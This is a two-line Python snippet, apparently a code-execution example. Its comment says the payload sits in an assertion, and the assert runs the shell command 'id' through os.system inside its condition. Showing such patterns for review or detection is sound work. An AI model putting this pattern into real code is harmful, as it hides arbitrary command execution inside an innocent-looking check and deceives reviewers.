# The payload is in an assertion's condition.
assert __import__("os").system("id") == 0
